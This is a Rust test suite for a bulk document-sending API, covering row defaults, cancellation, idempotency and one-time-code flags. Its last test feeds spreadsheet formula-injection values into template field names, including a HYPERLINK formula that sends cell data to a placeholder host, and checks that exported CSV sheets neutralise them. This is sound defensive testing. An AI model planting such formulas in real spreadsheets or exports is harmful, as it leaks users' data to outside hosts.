//! Tests of the members that apply to all rows, and of their effect.

use std::fmt::Write as _;

use serde_json::{Value, json};
use testkit::database::TestDatabase;
use testkit::operator::operator;

use super::{PATH, common, counts, form, names, sheet, work, wrong_rows};
use crate::support::{Server, committee, plain};

testkit::on_both_databases!(
    a_list_takes_what_a_row_does_not_say_from_the_request,
    what_was_not_started_is_cancelled,
    the_same_request_under_a_key_is_accepted_once,
    nothing_is_started_for_who_may_not_send_any_more,
    a_sheet_says_who_is_asked_for_a_one_time_code,
);

fn a_list_takes_what_a_row_does_not_say_from_the_request(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let body = json!({
        "template_id": template,
        "workflow_name": "For all",
        "language": "en",
        "recipient_list": [
            {"order": 1, "name": "Employer", "email": "employer@example.com"},
            {"order": 2, "name": "Nobody", "email": "nobody@example.com"},
        ],
        "field_list": [{"name": "employer", "value": "All Ltd"}, {"name": "salary", "value": 1}],
        "workflow_list": [
            {"recipient_list": [{"order": 2, "name": "Bob", "email": "bob@example.com"}], "field_list": [{"name": "salary", "value": 2}]},
            {"workflow_name": "Own", "language": "ko"},
            {"recipient_list": [{"order": 2, "name": 7, "email": "bob@example.com"}]},
            {"template_id": template + 1},
        ],
    });
    let dry = server.post(&format!("{PATH}?dry_run=true"), Some(&token), &body).ok();
    assert_eq!(
        wrong_rows(&dry["row_list"]),
        [
            (3, vec![("recipient_list[0].name".to_owned(), "wrong-type".to_owned())]),
            (4, vec![("template_id".to_owned(), "not-allowed".to_owned())])
        ]
    );
    let accepted = server.post(PATH, Some(&token), &body).ok();
    assert_eq!(
        counts(&accepted),
        [4, 2, 0, 2, 0],
        "what cannot be read is known at once"
    );
    work(&server);
    let rows = server
        .get(&format!("{PATH}/{}?status=started", accepted["bulk_id"]), &token)
        .ok();
    let seen = |row: usize| {
        let id = &rows["row_list"][row]["workflow_id"];
        server.get(&format!("/api/v3/workflows/{id}"), &token).ok()
    };
    let (first, second) = (seen(0), seen(1));
    assert_eq!(
        (
            &first["workflow_name"],
            &first["language"],
            &first["steps"][0]["name"],
            &first["steps"][1]["name"]
        ),
        (&json!("For all"), &json!("en-US"), &json!("Employer"), &json!("Bob"))
    );
    let values: Vec<&Value> = first["field_list"]
        .as_array()
        .expect("fields")
        .iter()
        .map(|field| &field["value"])
        .collect();
    assert_eq!(values, ["All Ltd", "2"]);
    assert_eq!(
        (
            &second["workflow_name"],
            &second["language"],
            &second["steps"][1]["name"]
        ),
        (&json!("Own"), &json!("ko-KR"), &json!("Nobody"))
    );
}

fn what_was_not_started_is_cancelled(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let accepted = form(&server, &token, "", &[("file", &sheet()), ("start", &common(template))]).ok();
    let path = format!("{PATH}/{}", accepted["bulk_id"]);
    let cancel = || server.post(&format!("{path}/cancel"), Some(&token), &json!({}));
    let cancelled = cancel().ok();
    assert_eq!(
        (&cancelled["status"], counts(&cancelled)),
        (&json!("cancelled"), [7, 0, 0, 0, 7])
    );
    assert_eq!(work(&server), 0);
    assert!(names(&server, &token).is_empty());
    let again = cancel().problem(409);
    assert_eq!(
        (&again["code"], &again["state"]),
        (&json!("bulk-finished"), &json!("cancelled"))
    );
    let words = again["detail"].as_str().expect("words");
    assert!(words.contains("bulk send"), "{words}");
}

fn the_same_request_under_a_key_is_accepted_once(database: &TestDatabase) {
    let server = Server::new(database);
    let (_, token, template) = server.with_company("acme");
    let send = |name: &str| {
        let body = json!({
            "template_id": template, "workflow_name": name,
            "recipient_list": [
                {"order": 1, "name": "Ann", "email": "ann@example.com"}, {"order": 2, "name": "Bob", "email": "bob@example.com"},
            ],
            "workflow_list": [{}, {}],
        });
        let request = server.request("POST", PATH, Some(&token));
        server.send(request.header("idempotency-key", "monday").json(&body))
    };
    let first = send("one").ok();
    work(&server);
    assert_eq!(send("one").ok(), first);
    assert_eq!(work(&server), 0);
    assert_eq!(names(&server, &token), ["one", "one"]);
    assert_eq!(
        send("other").faults(),
        [("Idempotency-Key".to_owned(), "idempotency-key-reused".to_owned())]
    );
}

fn nothing_is_started_for_who_may_not_send_any_more(database: &TestDatabase) {
    let server = Server::new(database);
    let (company, token, template) = server.with_company("acme");
    server.member(&company, "sender@example.com", domain::Role::Sender);
    let sender = server.token("acme", "sender@example.com");
    let accepted = form(
        &server,
        &sender,
        "",
        &[("file", &sheet()), ("start", &common(template))],
    )
    .ok();
    server
        .app
        .disable_member(&operator(&server.app, &company), "sender@example.com")
        .expect("the member is disabled");
    work(&server);
    let done = server.get(&format!("{PATH}/{}", accepted["bulk_id"]), &token).ok();
    assert_eq!(counts(&done), [7, 0, 0, 7, 0]);
    assert_eq!(done["row_list"][0]["errors"][0]["code"], "role");
}

fn a_sheet_says_who_is_asked_for_a_one_time_code(database: &TestDatabase) {
    let server = Server::new(database);
    let (company, token, _) = server.with_company("acme");
    let template = server.template(&company, &plain(1, "end"));
    let start = common(template);
    let send = |query: &str, cells: &[&str]| {
        let mut csv = "workflow_name,1.name,1.email,1.one_time_code\n".to_owned();
        for (number, cell) in cells.iter().enumerate() {
            writeln!(csv, "document {number},Ann,ann@example.com,{cell}").expect("a text grows");
        }
        form(&server, &token, query, &[("file", csv.as_bytes()), ("start", &start)]).ok()
    };
    let dry = send("?dry_run=1", &["Y", "perhaps"]);
    assert_eq!(
        wrong_rows(&dry["row_list"]),
        [(3, vec![("1.one_time_code".to_owned(), "invalid-check".to_owned())])]
    );
    send("", &["Y", "N", "", "TRUE", "0", "1"]);
    work(&server);
    let page = server.get("/api/v3/workflows?limit=100", &token).ok();
    let mut asked: Vec<(String, bool)> = page["workflow_list"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|one| {
            let (company, id) = (company.clone(), one["workflow_id"].as_i64().expect("an id"));
            let stored = server
                .app
                .store
                .read(move |tx| store::workflow::load(tx, &company, domain::WorkflowId(id)))
                .expect("the store")
                .expect("the workflow");
            let name = one["workflow_name"].as_str().expect("a name").to_owned();
            (name, stored.writers[0].asks_one_time_code)
        })
        .collect();
    asked.sort();
    let asked: Vec<bool> = asked.into_iter().map(|(_, asks)| asks).collect();
    assert_eq!(asked, [true, false, false, true, false, true]);
}

#[test]
fn the_sheet_of_a_template_is_one_that_is_taken() {
    let server = Server::new(&TestDatabase::sqlite());
    let (company, token, template) = server.with_company("acme");
    let mut named = plain(1, "end");
    let mut formulas = Vec::new();
    for name in [
        "language",
        "=HYPERLINK(\"http://example.com?\"&A1)",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "'=1",
        "a;=1",
    ] {
        named["fields"][0]["name"] = json!(name);
        formulas.push(server.template(&company, &named));
    }
    for template in [template, server.template(&company, &committee())]
        .into_iter()
        .chain(formulas)
    {
        let answer = server.get(&format!("{PATH}/sheet?template_id={template}"), &token);
        assert_eq!(answer.status, 200);
        assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
        let sheet = String::from_utf8(answer.body).expect("text");
        assert!(sheet.starts_with("\u{feff}workflow_name,language,"), "{sheet}");
        for formula in [",=", ",\"=", ",+", ",-", ",@", ";="] {
            assert!(!sheet.contains(formula), "{sheet}");
        }
        let start = common(template);
        let dry = form(
            &server,
            &token,
            "?dry_run=1",
            &[("file", sheet.as_bytes()), ("start", &start)],
        )
        .ok();
        assert_eq!((&dry["total"], &dry["wrong"]), (&json!(1), &json!(0)), "{sheet} {dry}");
    }
    let unknown = server.get(&format!("{PATH}/sheet?template_id=9999"), &token);
    assert_eq!(
        unknown.faults(),
        [("template_id".to_owned(), "unknown-template".to_owned())]
    );
}
